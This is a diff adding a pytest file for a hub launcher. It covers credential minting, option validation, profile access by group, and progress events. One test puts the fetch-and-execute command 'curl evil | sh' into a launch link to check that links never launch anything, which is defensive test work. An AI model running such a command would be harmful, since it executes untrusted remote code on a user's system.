@@ -1,0 +1,236 @@
+"""A launch before any program runs: options, login, credentials, progress, links."""
+
+import asyncio
+
+import pytest
+from traitlets.config import Configurable
+
+from onyxia_hub.errors import (
+    InvalidOption,
+    LaunchLinkUnconfirmed,
+    NeverLoggedIn,
+    ProfileForbidden,
+    ProfileUnavailable,
+    ProviderUnreachable,
+)
+from onyxia_hub.launch import LaunchMixin, Phases, _preferred, default_profiles
+from onyxia_hub.manifests.start import start_script
+from tests.support.spawning import Person, s3_and_vault, settings, write_profile
+
+
+class _Base(Configurable):
+    """The least of a spawner."""
+
+    handler = None
+    name = "lab"
+
+    def clear_state(self):
+        self.cleared = True
+
+
+class _Launcher(LaunchMixin, _Base):
+    def credentials_dir(self):
+        return "/var/run/onyxia"
+
+    def working_dir_of(self, options):
+        return "/home/onyxia/work"
+
+
+@pytest.fixture
+def launcher(tmp_path):
+    write_profile(tmp_path / "profiles")
+    write_profile(tmp_path / "profiles", "club", more="visible_to: [geo]")
+    write_profile(tmp_path / "profiles", "easy", more="credentials: {optional: [s3, vault]}")
+
+    def make(*, user=None, providers=None, **options):
+        spawner = _Launcher(
+            onyxia_settings=settings(tmp_path),
+            providers=s3_and_vault() if providers is None else providers,
+        )
+        spawner.user = user or Person()
+        spawner.user_options = {"profile": "tiny", **options}
+        return spawner
+
+    return make
+
+
+async def test_a_launch_holds_credentials_scripts_and_the_user_s_variables(launcher):
+    spawner = launcher(
+        env={"API_KEY": "{mine}"},
+        init_script="echo hi\n",
+        git_repository="https://example.org/course.git",
+    )
+    launch = await spawner.prepare_launch()
+    assert launch.env == {
+        "IMAGE_NAME": "registry.example.org/tiny:1",
+        "ROOT_PROJECT_DIRECTORY": "/home/onyxia/work",
+        "GIT_REPOSITORY": "https://example.org/course.git",
+        "AWS_ENDPOINT_URL": "http://127.0.0.1:8333",
+        "VAULT_TOKEN": "hvs.SECRET-OF-VAULT",
+        "API_KEY": "{mine}",
+    }
+    assert launch.files == {
+        "s3-credentials.json": '{"SecretAccessKey": "SECRET-OF-S3"}',
+        "start.sh": start_script(),
+        "init.sh": "echo hi\n",
+    }
+    assert launch.minted == {
+        "AWS_ENDPOINT_URL": "http://127.0.0.1:8333",
+        "VAULT_TOKEN": "hvs.SECRET-OF-VAULT",
+    }
+    assert set(launch.expires_at) == {"s3", "vault"}
+    assert "SECRET" not in repr(launch)
+    assert "{mine}" not in repr(launch)
+
+
+async def test_providers_get_the_login_and_the_service(launcher):
+    spawner = launcher(vault_secret="project/db")
+    await spawner.prepare_launch()
+    s3, vault = spawner.providers
+    [(identity, request)] = vault.minted
+    assert identity.username == "alice"
+    assert identity.groups == ("stats",)
+    assert identity.claims == {"preferred_username": "alice", "email": "alice@example.org"}
+    assert identity.tokens == {
+        "access_token": "access-token-of-alice",
+        "id_token": "id-token-of-alice",
+    }
+    assert (request.mode, request.directory, request.service, request.vault_secret) == (
+        "on",
+        "/var/run/onyxia",
+        "lab",
+        "project/db",
+    )
+    assert s3.minted[0][1].mode == "refreshable"
+
+
+async def test_a_wrong_option_is_refused_before_anybody_is_asked(launcher):
+    spawner = launcher(memory_limit="900Gi")
+    with pytest.raises(InvalidOption, match="memory_limit"):
+        await spawner.prepare_launch()
+    assert spawner.user.asked == 0
+    assert spawner.providers[0].minted == []
+
+
+async def test_the_groups_of_the_user_decide_what_may_be_launched(launcher):
+    with pytest.raises(ProfileForbidden):
+        await launcher(profile="club").prepare_launch()
+    member = launcher(profile="club", user=Person(member_of=("geo",)))
+    assert (await member.prepare_launch()).options.profile.slug == "club"
+    assert [entry["slug"] for entry in launcher().visible_profiles()] == ["easy", "tiny"]
+    assert [entry["slug"] for entry in member.visible_profiles()] == ["club", "easy", "tiny"]
+
+
+async def test_a_profile_that_needs_the_gateway_is_unavailable_for_now(launcher, tmp_path):
+    write_profile(tmp_path / "profiles", "ide")
+    file = tmp_path / "profiles" / "ide.yaml"
+    file.write_text(file.read_text().replace("login: hub", "login: gateway"))
+    with pytest.raises(ProfileUnavailable, match="gateway is not part of this release"):
+        await launcher(profile="ide").prepare_launch()
+
+
+async def test_a_user_who_never_logged_in_can_t_launch_what_needs_credentials(launcher):
+    with pytest.raises(NeverLoggedIn, match="alice has not logged in yet"):
+        await launcher(user=Person(auth_state=None)).prepare_launch()
+
+
+async def test_a_user_who_never_logged_in_is_told_what_is_missing_if_it_is_optional(launcher):
+    spawner = launcher(profile="easy", user=Person(auth_state=None))
+    launch = await spawner.prepare_launch()
+    assert set(launch.missing) == {"s3", "vault"}
+    assert "alice has not logged in yet" in launch.missing["s3"]
+    assert launch.minted == {}
+
+
+async def test_a_provider_that_is_away_stops_the_launch_unless_it_is_optional(launcher):
+    providers = s3_and_vault()
+    providers[0].away = True
+    with pytest.raises(ProviderUnreachable, match="S3 at"):
+        await launcher(providers=providers).prepare_launch()
+    assert providers[1].revoked == [{"VAULT_TOKEN": "hvs.SECRET-OF-VAULT"}]
+
+    spawner = launcher(profile="easy", providers=providers)
+    launch = await spawner.prepare_launch()
+    assert set(launch.missing) == {"s3"}
+    spawner.phases.finish()
+    told = [event async for event in spawner.phases.follow()]
+    assert [event["progress"] for event in told] == [5, 10, 20]
+    assert [event["message"] for event in told[:2]] == [
+        "Checking your options",
+        "Getting S3 and Vault access",
+    ]
+    assert told[2]["message"].startswith("S3 at http://127.0.0.1:9 does not answer")
+
+
+async def test_clear_state_forgets_the_launch_and_ends_its_progress(launcher):
+    spawner = launcher()
+    await spawner.prepare_launch()
+    phases = spawner.phases
+    spawner.clear_state()
+    assert spawner.launch is None
+    assert spawner.cleared
+    assert len([event async for event in phases.follow()]) == 2
+    assert spawner.phases is not phases
+
+
+async def test_every_page_that_follows_sees_all_phases_as_they_come():
+    phases = Phases()
+    phases.report(5, "first")
+    seen = {"early": [], "late": []}
+
+    async def follow(page):
+        async for event in phases.follow():
+            seen[page].append(event["message"])
+
+    early = asyncio.create_task(follow("early"))
+    await asyncio.sleep(0)
+    assert seen["early"] == ["first"]
+    phases.report(10, "second")
+    late = asyncio.create_task(follow("late"))
+    phases.report(20, "third")
+    await asyncio.sleep(0.01)
+    assert seen == {"early": ["first", "second", "third"], "late": ["first", "second", "third"]}
+    assert not early.done()
+    phases.finish()
+    await asyncio.wait_for(asyncio.gather(early, late), 1)
+
+
+def test_a_link_fills_in_the_form_and_never_launches(launcher):
+    spawner = launcher()
+    with pytest.raises(LaunchLinkUnconfirmed, match="never launches anything by itself"):
+        spawner.options_from_query({"profile": ["tiny"], "init_script": ["curl evil | sh"]})
+    assert spawner.user_options == {"profile": "tiny", "init_script": "curl evil | sh"}
+
+
+def test_a_link_with_an_unknown_field_is_refused_by_name(launcher):
+    with pytest.raises(InvalidOption, match="memroy_limit"):
+        launcher().options_from_query({"profile": ["tiny"], "memroy_limit": ["1Gi"]})
+
+
+def test_the_catalogue_and_the_providers_are_shared_by_all_spawners(tmp_path):
+    write_profile(tmp_path / "profiles")
+    site = settings(tmp_path)
+    one = _Launcher(onyxia_settings=site)
+    two = _Launcher(onyxia_settings=site.model_copy(deep=True))
+    assert one.catalogue is two.catalogue
+    assert one.providers is two.providers
+
+
+def test_the_package_s_own_catalogue_is_found():
+    assert (default_profiles() / "jupyter-python.yaml").is_file()
+
+
+@pytest.mark.parametrize(
+    ("header", "language"),
+    [
+        ("", "en"),
+        ("fr", "fr"),
+        ("fr-CH, en;q=0.9", "fr"),
+        ("en-GB,fr;q=0.8", "en"),
+        ("de, fr;q=0.7, en;q=0.3", "fr"),
+        ("fr;q=nonsense", "en"),
+        ("de", "en"),
+    ],
+)
+def test_the_form_speaks_the_browser_s_language(header, language):
+    assert _preferred(header) == language
